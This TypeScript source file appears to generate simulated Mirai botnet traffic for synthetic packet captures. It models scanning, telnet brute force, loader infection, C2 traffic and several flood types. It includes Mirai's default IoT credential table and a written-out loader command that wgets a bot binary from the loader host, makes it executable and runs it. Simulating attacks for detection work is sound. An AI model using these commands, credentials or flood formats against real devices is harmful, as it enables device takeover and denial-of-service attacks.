// Mirai-faithful traffic, following the published source (jgamblin/Mirai-Source-Code): scanner, brute force, report, loader, C2, floods.
import dnsPacket from 'dns-packet';
import { ETH_IPV4, TCP, concat, ethernet, ip4, ipv4, tcpFrame, text, udp, udpFrame, dnsPayload, httpRequest } from './packets.js';
import { S, type Host, type Scene } from './scene.js';

/** scanner.c: SCANNER_RAW_PPS. */
export const MIRAI_PPS = 160;

/**
 * Raw SYN probes (scanner.c): seq = destination address, no TCP options, one source port for the
 * whole run, random window and IP id, TTL 64, every 10th probe to 2323 and the rest to 23, random
 * public targets. `answered` of them get a SYN-ACK from a live telnet server (the rest stay silent).
 * Returns the probe targets in order.
 */
export function scanProbes(sc: Scene, bot: Host, t: number, seconds: number, o: { pps?: number; answered?: number } = {}): string[] {
  const pps = o.pps ?? MIRAI_PPS;
  const sport = sc.ephemeral();
  const n = Math.round(seconds * pps);
  const targets: string[] = [];
  for (let i = 0; i < n; i++) {
    const dst = sc.publicIp();
    const ts = t + (i * S) / pps;
    const dport = i % 10 === 0 ? 2323 : 23;
    sc.at(ts, tcpFrame(bot.mac, sc.router.mac, bot.ip, dst, {
      sport, dport, seq: ip4(dst), flags: TCP.SYN, window: sc.rand() & 0xffff,
    }, undefined, 64, sc.rand() & 0xffff));
    if (o.answered && i % Math.max(1, Math.floor(n / o.answered)) === 7) {
      sc.at(ts + 80_000, tcpFrame(sc.router.mac, bot.mac, dst, bot.ip, { sport: dport, dport: sport, seq: sc.rand(), ack: ip4(dst) + 1, flags: TCP.SYN | TCP.ACK }, undefined, 52));
      // The raw scanner never completes the handshake: the kernel answers the unexpected SYN-ACK with RST.
      sc.at(ts + 80_100, tcpFrame(bot.mac, sc.router.mac, bot.ip, dst, { sport, dport, seq: ip4(dst) + 1, flags: TCP.RST }, undefined, 64));
    }
    targets.push(dst);
  }
  return targets;
}

const IAC_NEGOTIATION = Uint8Array.of(255, 253, 1, 255, 253, 31, 255, 251, 1, 255, 251, 3);

/**
 * Telnet brute force as scanner.c does it: one credential pair per connection; on success
 * "enable", "system", "shell", "sh" and "/bin/busybox MIRAI", answered "MIRAI: applet not found".
 * Returns the end time.
 */
export function telnetBruteForce(sc: Scene, attacker: Host, victim: Host, t: number, creds: [string, string][],
  o: { successLast?: boolean; dport?: number; gap?: number; banner?: string; word?: string } = {}): number {
  const dport = o.dport ?? 23;
  const word = o.word ?? 'MIRAI';
  for (let i = 0; i < creds.length; i++) {
    const [user, pass] = creds[i]!;
    const ok = o.successLast !== false && i === creds.length - 1;
    const ex = [
      { from: 's' as const, data: concat(IAC_NEGOTIATION, text(`\r\n${o.banner ?? ''}login: `)), dt: 30_000 },
      { from: 'c' as const, data: text(`${user}\r\n`), dt: 60_000 },
      { from: 's' as const, data: text('Password: '), dt: 20_000 },
      { from: 'c' as const, data: text(`${pass}\r\n`), dt: 60_000 },
    ];
    if (ok) {
      ex.push({ from: 's', data: text('\r\n# '), dt: 200_000 });
      for (const cmd of ['enable', 'system', 'shell', 'sh']) ex.push({ from: 'c', data: text(`${cmd}\r\n`), dt: 50_000 });
      ex.push({ from: 'c', data: text(`/bin/busybox ${word}\r\n`), dt: 50_000 });
      ex.push({ from: 's', data: text(`${word}: applet not found\r\n# `), dt: 30_000 });
    } else {
      ex.push({ from: 's', data: text('\r\nLogin incorrect\r\n'), dt: 1_500_000 });
    }
    t = sc.tcpSession(attacker, victim, { t, dport, exchanges: ex, close: ok ? 'rst' : 'fin', rtt: 90_000, ttlC: 48 });
    t += o.gap ?? 500_000;
  }
  return t;
}

/** scanner.c report_working(): a connection to the report server's TCP 48101 with the cracked login. */
export function reportWorking(sc: Scene, bot: Host, server: Host, t: number, victimIp: string, victimPort: number, user: string, pass: string): number {
  const addr = new Uint8Array(4);
  new DataView(addr.buffer).setUint32(0, ip4(victimIp));
  const msg = concat(Uint8Array.of(0), addr, Uint8Array.of(victimPort >> 8, victimPort & 255),
    Uint8Array.of(user.length), text(user), Uint8Array.of(pass.length), text(pass));
  return sc.tcpSession(bot, server, { t, dport: 48101, exchanges: [{ from: 'c', data: msg }], rtt: 120_000 });
}

/**
 * The loader (loader/src/server.c): logs in over telnet, runs its ECCHI checks, makes dvrHelper and
 * has the victim wget /bins/mirai.<arch> from the loader's HTTP server, then starts it.
 */
export function loaderInfect(sc: Scene, loader: Host, victim: Host, t: number, user: string, pass: string, arch = 'arm7'): number {
  const cmds = [
    'enable', 'system', 'shell', 'sh', '/bin/busybox ECCHI',
    '/bin/busybox ps; /bin/busybox ECCHI',
    '/bin/busybox cat /proc/mounts; /bin/busybox ECCHI',
    '/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI',
    '/bin/busybox cat /bin/echo',
    `/bin/busybox wget http://${loader.ip}/bins/mirai.${arch} -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI`,
    `./dvrHelper telnet.${arch}; /bin/busybox IHCCE`,
  ];
  const ex: { from: 'c' | 's'; data: Uint8Array; dt?: number }[] = [
    { from: 's', data: concat(IAC_NEGOTIATION, text('\r\nlogin: ')), dt: 30_000 },
    { from: 'c', data: text(`${user}\r\n`) },
    { from: 's', data: text('Password: ') },
    { from: 'c', data: text(`${pass}\r\n`) },
    { from: 's', data: text('\r\n# '), dt: 200_000 },
  ];
  let wgetAt = 0;
  for (const c of cmds) {
    ex.push({ from: 'c', data: text(`${c}\r\n`), dt: 80_000 });
    if (c.includes('wget')) wgetAt = ex.length;
    ex.push({ from: 's', data: text(c.includes('ECCHI') ? 'ECCHI: applet not found\r\n# ' : '# '), dt: c.includes('wget') ? 2_500_000 : 60_000 });
  }
  const end = sc.tcpSession(loader, victim, { t, dport: 23, exchanges: ex, close: 'fin', rtt: 100_000, ttlC: 50 });
  // busybox wget fetches the binary while the loader waits (between the wget command and its answer).
  const getAt = t + 200_000 + ex.slice(0, wgetAt).reduce((a, x) => a + (x.dt ?? 20_000) + 50_000, 0);
  const elf = concat(Uint8Array.of(0x7f, 0x45, 0x4c, 0x46, 1, 1, 1, 0), new Uint8Array(600).map(() => sc.rand() & 255));
  sc.tcpSession(victim, loader, {
    t: getAt, dport: 80, rtt: 100_000,
    exchanges: [
      { from: 'c', data: text(`GET /bins/mirai.${arch} HTTP/1.1\r\nHost: ${loader.ip}\r\nUser-Agent: Wget\r\nConnection: close\r\n\r\n`) },
      { from: 's', data: concat(text(`HTTP/1.1 200 OK\r\nServer: Apache\r\nContent-Type: application/octet-stream\r\nContent-Length: ${elf.length}\r\n\r\n`), elf) },
    ],
  });
  return end;
}

/** resolv.c: the bot resolves its C2 name with a DNS query straight to 8.8.8.8. */
export function c2Lookup(sc: Scene, bot: Host, t: number, name: string, answer: string): number {
  const g = sc.remote('8.8.8.8');
  const sport = sc.ephemeral();
  const id = sc.rand() & 0xffff;
  const q: dnsPacket.Packet = { type: 'query', id, flags: 0x0100, questions: [{ type: 'A', name }] };
  const a: dnsPacket.Packet = { type: 'response', id, flags: 0x8180, questions: [{ type: 'A', name }], answers: [{ type: 'A', name, ttl: 60, data: answer }] };
  sc.at(t, udpFrame(bot.mac, g.mac, bot.ip, g.ip, sport, 53, dnsPayload(q), 64, sc.id()));
  sc.at(t + 25_000, udpFrame(g.mac, bot.mac, g.ip, bot.ip, 53, sport, dnsPayload(a), 120, sc.id()));
  return t + 25_000;
}

/**
 * main.c: connect to the CNC on port 23, send 00 00 00 01 then the id length (0), then every 60 s the
 * 2-byte keepalive 00 00, which the CNC echoes. The session stays open (no close).
 */
export function c2Session(sc: Scene, bot: Host, cnc: Host, t: number, keepalives: number): number {
  const ex: { from: 'c' | 's'; data: Uint8Array; dt?: number }[] = [
    { from: 'c', data: Uint8Array.of(0, 0, 0, 1), dt: 10_000 },
    { from: 'c', data: Uint8Array.of(0), dt: 2_000 },
  ];
  for (let i = 0; i < keepalives; i++) {
    ex.push({ from: 'c', data: Uint8Array.of(0, 0), dt: 60 * S });
    ex.push({ from: 's', data: Uint8Array.of(0, 0), dt: 100_000 });
  }
  return sc.tcpSession(bot, cnc, { t, dport: 23, exchanges: ex, close: 'none', rtt: 110_000 });
}

/**
 * attack_udp_generic(): datagrams with 512 bytes of random payload (ATK_OPT_PAYLOAD_SIZE default),
 * random source and destination ports per packet, to one target.
 */
export function udpFlood(sc: Scene, bot: Host, target: string, t: number, seconds: number, pps: number): void {
  const n = Math.round(seconds * pps);
  const payload = new Uint8Array(512).map(() => sc.rand() & 255);
  for (let i = 0; i < n; i++) {
    sc.at(t + (i * S) / pps, udpFrame(bot.mac, sc.router.mac, bot.ip, target, sc.rand() & 0xffff || 1, sc.rand() & 0xffff || 1, payload, 64, sc.rand() & 0xffff));
  }
}

/** attack_udp_vse(): "TSource Engine Query" to UDP 27015 of the target, random source port. */
export function vseFlood(sc: Scene, bot: Host, target: string, t: number, seconds: number, pps: number): void {
  const payload = concat(Uint8Array.of(0xff, 0xff, 0xff, 0xff), text('TSource Engine Query'), Uint8Array.of(0));
  const n = Math.round(seconds * pps);
  for (let i = 0; i < n; i++) {
    sc.at(t + (i * S) / pps, udpFrame(bot.mac, sc.router.mac, bot.ip, target, sc.rand() & 0xffff || 1, 27015, payload, 64, sc.rand() & 0xffff));
  }
}

/** attack_tcp_syn(): SYNs with random source ports (and options) to one target at a high rate. */
export function synFlood(sc: Scene, bot: Host, target: string, t: number, seconds: number, pps: number): void {
  const n = Math.round(seconds * pps);
  for (let i = 0; i < n; i++) {
    sc.at(t + (i * S) / pps, tcpFrame(bot.mac, sc.router.mac, bot.ip, target, {
      sport: sc.rand() & 0xffff, dport: 80, seq: sc.rand(), flags: TCP.SYN, window: sc.rand() & 0xffff,
      options: Uint8Array.of(2, 4, 5, 0xb4, 4, 2, 8, 10, 0, 0, 0, 1, 0, 0, 0, 0, 1, 3, 3, 7),
    }, undefined, 64, sc.rand() & 0xffff));
  }
}

/** Mirai's credential table (scanner.c add_auth_entry), in part: what the brute force tries first. */
export const MIRAI_CREDS: [string, string][] = [
  ['root', 'xc3511'], ['root', 'vizxv'], ['root', 'admin'], ['admin', 'admin'], ['root', '888888'], ['root', 'xmhdipc'],
  ['root', 'default'], ['root', 'juantech'], ['root', '123456'], ['root', '54321'], ['support', 'support'], ['root', '12345'],
];

/**
 * attack_tcp_ack(): ACK packets with random source and destination ports and random seq/ack to one
 * target, carrying `len` random bytes: 512 is the published default (ATK_OPT_PAYLOAD_SIZE), operators
 * set len=0 for bare ACKs.
 */
export function ackFlood(sc: Scene, bot: Host, target: string, t: number, seconds: number, pps: number, len = 512): void {
  const n = Math.round(seconds * pps);
  const payload = len > 0 ? new Uint8Array(len).map(() => sc.rand() & 255) : undefined;
  for (let i = 0; i < n; i++) {
    sc.at(t + (i * S) / pps, tcpFrame(bot.mac, sc.router.mac, bot.ip, target, {
      sport: sc.rand() & 0xffff, dport: sc.rand() & 0xffff, seq: sc.rand(), ack: sc.rand(), flags: TCP.ACK, window: sc.rand() & 0xffff,
    }, payload, 64, sc.rand() & 0xffff));
  }
}

/** attack_gre_ip(): GRE (IP protocol 47, RFC 2784) carrying IPv4/UDP with 512 random bytes, to one target. */
export function greFlood(sc: Scene, bot: Host, target: string, t: number, seconds: number, pps: number): void {
  const payload = new Uint8Array(512).map(() => sc.rand() & 255);
  const n = Math.round(seconds * pps);
  for (let i = 0; i < n; i++) {
    const inner = ipv4({ src: bot.ip, dst: target, proto: 17, id: sc.rand() & 0xffff }, udp(bot.ip, target, sc.rand() & 0xffff, sc.rand() & 0xffff, payload));
    const gre = concat(Uint8Array.of(0, 0, 0x08, 0x00), inner);
    sc.at(t + (i * S) / pps, ethernet(bot.mac, sc.router.mac, ETH_IPV4, ipv4({ src: bot.ip, dst: target, proto: 47, id: sc.rand() & 0xffff }, gre)));
  }
}

/** attack_udp_generic() with len=64 and random ports at a high rate. */
export function udpFloodSmall(sc: Scene, bot: Host, target: string, t: number, seconds: number, pps: number): void {
  const payload = new Uint8Array(64).map(() => sc.rand() & 255);
  const n = Math.round(seconds * pps);
  for (let i = 0; i < n; i++) {
    sc.at(t + (i * S) / pps, udpFrame(bot.mac, sc.router.mac, bot.ip, target, sc.rand() & 0xffff || 1, sc.rand() & 0xffff || 1, payload, 64, sc.rand() & 0xffff));
  }
}

/** attack_udp_dns(): queries for 12 random characters under the victim's domain, through the home resolver. */
export function waterTorture(sc: Scene, bot: Host, resolver: Host, domain: string, t: number, count: number, gapUs: number): void {
  const alpha = 'abcdefghijklmnopqrstuvwxyz0123456789';
  for (let i = 0; i < count; i++) {
    let label = '';
    for (let k = 0; k < 12; k++) label += alpha[sc.rand() % alpha.length];
    const q: dnsPacket.Packet = { type: 'query', id: sc.rand() & 0xffff, flags: 0x0100, questions: [{ type: 'A', name: `${label}.${domain}` }] };
    sc.at(t + i * gapUs, udpFrame(bot.mac, resolver.mac, bot.ip, resolver.ip, sc.ephemeral(), 53, dnsPayload(q), 64, sc.rand() & 0xffff));
  }
}

/** attack_app_http(): GET requests to one site from many connections (conns= option), each closed after the answer. */
export function httpFlood(sc: Scene, bot: Host, server: Host, host: string, t: number, requests: number, gapUs: number): void {
  for (let i = 0; i < requests; i++) {
    const req = httpRequest('GET', '/', {
      Host: host, 'User-Agent': 'Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/51.0.2704.103 Safari/537.36',
      Connection: 'keep-alive', Accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8',
    });
    sc.tcpSession(bot, server, { t: t + i * gapUs, dport: 80, rtt: 30_000, exchanges: [{ from: 'c', data: req }, { from: 's', data: text('HTTP/1.1 503 Service Unavailable\r\nContent-Length: 0\r\n\r\n') }], close: 'rst' });
  }
}
